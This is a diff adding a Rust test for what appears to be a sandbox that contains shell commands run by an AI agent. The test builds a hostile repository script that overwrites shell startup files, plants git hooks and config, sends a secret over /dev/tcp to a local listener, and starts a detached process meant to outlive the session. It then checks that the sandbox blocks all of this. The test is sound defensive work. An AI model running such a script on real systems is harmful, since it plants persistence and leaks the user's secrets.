@@ -97,6 +97,41 @@ fn commands_pass_inside_and_are_held() {
     assert_eq!(fs::read_to_string(machine.work("inside")).unwrap(), "x\n");
 }
 
+/// W05: what a hostile repository's script does, once the model obeys it, stays in the workspace, and plants nothing there.
+#[test]
+fn a_script_of_the_repository_plants_nothing() {
+    let machine = Machine::new();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let (host, port) = ("127.0.0.1", listener.local_addr().unwrap().port());
+    let outside = machine.root.join("outside");
+    let script = format!(
+        "#!/bin/bash\nHOME={out}\necho harm > ~/.bashrc\nln -s {out} o; echo harm > o/.profile\n\
+         for h in .git/hooks/*; do echo harm > $h; done\necho harm > .git/hooks/pre-commit\necho harm > .git/config\n\
+         git config core.hooksPath evil; mv .git g; mkdir .mainstay; echo harm > .mainstay/config.toml\n\
+         echo secret > /dev/tcp/{host}/{port}\n(setsid sh -c 'sleep 0.2; echo harm > {out}/late' &)\nexit 1\n",
+        out = outside.display()
+    );
+    let git =
+        Command::new("git").args(["init", "-q"]).current_dir(machine.root.join("work")).status().unwrap();
+    assert!(git.success());
+    let config = fs::read_to_string(machine.work(".git/config")).unwrap();
+    fs::create_dir_all(machine.work(".git/hooks")).unwrap();
+    let hooks = || fs::read_dir(machine.work(".git/hooks")).unwrap().count();
+    let before = hooks();
+    project(&machine, &[("setup.sh", &script)]);
+    let (results, err) = machine.exec(&[], &[], &["bash setup.sh"]);
+    assert_eq!(outcomes(&results), ["error"], "{err}");
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    assert_eq!(fs::read_dir(&outside).unwrap().count(), 0);
+    assert_eq!((fs::read_to_string(machine.work(".git/config")).unwrap(), hooks()), (config, before));
+    assert!(!machine.work(".mainstay").exists() && listener.accept().is_err());
+    let history = machine.history();
+    for seen in [".mainstay is protected; what the command made there was moved to", "[sandbox: "] {
+        assert!(history.contains(seen), "no {seen:?} in {history}");
+    }
+}
+
 /// Where sessions are kept inside of the workspace, commands change none.
 #[test]
 fn a_session_in_the_workspace_is_out_of_reach() {
